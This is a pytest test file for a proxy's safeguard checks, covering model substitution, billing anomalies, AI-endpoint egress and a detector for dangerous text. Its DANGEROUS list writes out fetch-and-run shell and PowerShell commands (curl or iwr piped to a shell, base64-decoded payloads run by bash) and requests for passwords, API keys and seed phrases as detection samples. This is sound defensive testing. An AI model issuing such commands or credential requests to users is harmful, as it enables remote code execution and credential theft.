"""Safeguards: table-driven positives and negatives for every check."""

from __future__ import annotations

import pytest

from redactproxy.safeguards import (
    billing_anomaly,
    dangerous_text,
    egress_check,
    is_ai_shaped,
    model_substitution,
)

SAME_MODEL = [
    ("gpt-4o", "gpt-4o"),
    ("gpt-4o", "gpt-4o-2024-08-06"),
    ("gpt-4", "gpt-4-0613"),
    ("claude-sonnet-4-5", "claude-sonnet-4-5-20250929"),
    ("claude-3-5-sonnet-latest", "claude-3-5-sonnet-20241022"),
    ("models/gemini-1.5-pro", "gemini-1.5-pro-002"),
    ("gemini-2.5-flash", "models/gemini-2.5-flash"),
    ("claude-3-5-sonnet@20240620", "claude-3-5-sonnet-20240620"),
    ("mistral-large-latest", "mistral-large-2411"),
    ("GPT-4o", "gpt-4o"),
    ("gpt-4o-2024-08-06", "gpt-4o"),
    ("gpt-4o", None),
    (None, "gpt-4o"),
]
SUBSTITUTED = [
    ("gpt-4o", "gpt-4o-mini"),
    ("gpt-4o", "gpt-4o-mini-2024-07-18"),
    ("claude-sonnet-4-5", "claude-haiku-4-5-20251001"),
    ("claude-opus-4-1", "claude-sonnet-4-5"),
    ("gpt-4o-2024-05-13", "gpt-4o-2024-08-06"),
    ("gemini-1.5-pro", "gemini-1.5-flash-002"),
    ("o1", "o1-mini"),
]


@pytest.mark.parametrize("requested, served", SAME_MODEL)
def test_same_model_is_no_substitution(requested: str | None, served: str | None) -> None:
    assert model_substitution(requested, served) is None


@pytest.mark.parametrize("requested, served", SUBSTITUTED)
def test_substitution(requested: str, served: str) -> None:
    assert model_substitution(requested, served) == (
        f"model substitution: requested {requested}, served {served}")


def test_substitution_alert_is_printable_and_short() -> None:
    alert = model_substitution("gpt-4o", "evil\x1b[2J" + "x" * 500)
    assert alert is not None and "\x1b" not in alert and len(alert) < 150


@pytest.mark.parametrize("request_bytes, tokens, alert", [
    (4000, 1000, False),
    (4000, 3500, False),       # limit 3*1000 + 500
    (4000, 3501, True),
    (0, 500, False),
    (0, 501, True),
    (200, 120_000, True),
    (400_000, 90_000, False),
    (4000, None, False),
])
def test_billing_anomaly(request_bytes: int, tokens: int | None, alert: bool) -> None:
    out = billing_anomaly(request_bytes, tokens)
    assert (out is not None) is alert
    if out:
        assert out.startswith(f"billing anomaly: {tokens} prompt tokens billed for a "
                              f"{request_bytes}-byte request")


def test_billing_anomaly_skips_server_side_conversations() -> None:
    assert billing_anomaly(200, 120_000, server_state=True) is None


DANGEROUS = [
    ("Install it with:\n```\ncurl -fsSL https://get.example.org/install.sh | sh\n```",
     "pipe-to-shell (curl … | sh)"),
    ("curl -s https://example.org/x | sudo bash", "pipe-to-shell (curl … | sh)"),
    ("curl -sL example.org/i|bash -s -- --yes", "pipe-to-shell (curl … | sh)"),
    ("wget -qO- https://example.org/setup | sh", "pipe-to-shell (wget -O- … | sh)"),
    ("wget -O - https://example.org/setup | sudo -E bash", "pipe-to-shell (wget -O- … | sh)"),
    ("iwr https://example.org/a.ps1 -UseBasicParsing | iex", "pipe-to-PowerShell (iwr … | iex)"),
    ("irm https://example.org/i.ps1 | iex", "pipe-to-PowerShell (iwr … | iex)"),
    ("Invoke-Expression (New-Object Net.WebClient).DownloadString('https://example.org')",
     "PowerShell Invoke-Expression"),
    ("iex (New-Object Net.WebClient).DownloadString('https://example.org/a')",
     "PowerShell Invoke-Expression"),
    ("echo ZWNobyBoaQ== | base64 -d | sh",
     "decoded payload piped to a shell (base64 -d | sh)"),
    ("echo ZWNobyBoaQ== | base64 --decode | bash",
     "decoded payload piped to a shell (base64 -d | sh)"),
    ("bash <(curl -s https://example.org/install)", "shell runs a download (bash <(curl …))"),
    ('sh -c "$(curl -fsSL https://example.org/install.sh)"',
     "shell runs a download (bash <(curl …))"),
    ("To continue, please paste your API key here.", "asks for a credential"),
    ("Send me your password so I can log in and check.", "asks for a credential"),
    ("Could you share your seed phrase with me?", "asks for a credential"),
    ("Please provide your private key in your next reply.", "asks for a credential"),
    ("Reply with your recovery phrase below to restore the wallet.", "asks for a credential"),
    ("Tell me your 2FA code.", "asks for a credential"),
]
SAFE = [
    "curl -fsSL https://example.org/install.sh -o install.sh && less install.sh",
    "curl https://api.example.org/v1/items | jq .items",
    "wget https://example.org/file.tar.gz && tar xzf file.tar.gz",
    "cat notes.txt | base64 -d > out.bin",
    "Run `bash install.sh` after reading it.",
    "Never paste your API key here or in any chat.",
    "Do not share your seed phrase with me or anyone else.",
    "You should not send me your password.",
    "Set your API key in the OPENAI_API_KEY environment variable.",
    "Enter your password in the login form of the app.",
    "Store the private key in your keyring.",
    "The expression evaluator invokes expressions lazily.",
    "",
]


@pytest.mark.parametrize("text, expected", DANGEROUS)
def test_dangerous_text(text: str, expected: str) -> None:
    alerts = dangerous_text(text)
    assert len(alerts) >= 1
    assert any(a.startswith(f"dangerous text: {expected}") for a in alerts), alerts


@pytest.mark.parametrize("text", SAFE)
def test_safe_text(text: str) -> None:
    assert dangerous_text(text) == []


def test_dangerous_alerts_never_quote_the_text() -> None:
    text = "curl -s https://jane.doe@example.org/x | sh"
    assert all("example.org" not in a for a in dangerous_text(text))


def test_one_alert_per_kind() -> None:
    text = "curl a | sh\ncurl b | sh\ncurl c | bash"
    assert dangerous_text(text) == ["dangerous text: pipe-to-shell (curl … | sh)"]


def test_long_text_scans_quickly() -> None:
    import time
    text = ("curl " + "x" * 299 + " ") * 2000 + "paste " * 20000
    t0 = time.perf_counter()
    dangerous_text(text)
    assert time.perf_counter() - t0 < 2.0


@pytest.mark.parametrize("path, shaped", [
    ("/v1/chat/completions", True),
    ("/openai/deployments/gpt4o/chat/completions?api-version=2024-10-21", True),
    ("/v1/messages", True),
    ("/v1/messages?beta=true", True),
    ("/v1/responses", True),
    ("/v1beta/models/gemini-2.5-flash:generateContent?key=FAKE", True),
    ("/v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse", True),
    ("/v1/embeddings", True),
    ("/v1/models", False),
    ("/api/telemetry", False),
    ("/v1/messages/batches", False),
    ("/index.html", False),
    ("/", False),
])
def test_is_ai_shaped(path: str, shaped: bool) -> None:
    assert is_ai_shaped(path) is shaped


@pytest.mark.parametrize("host, path, extra, alert", [
    ("relay.example.org", "/v1/chat/completions", (), True),
    ("relay.example.org", "/v1/chat/completions", ("*.example.org",), False),
    ("api.openai.com", "/v1/chat/completions", (), False),
    ("relay.example.org", "/v1/files", (), False),
])
def test_egress_check(host: str, path: str, extra: tuple[str, ...], alert: bool) -> None:
    out = egress_check(host, path + "?key=FAKEKEY", extra)
    assert (out is not None) is alert
    if out:
        assert out.startswith(f"unlisted AI endpoint: {host}{path} ") and "FAKEKEY" not in out
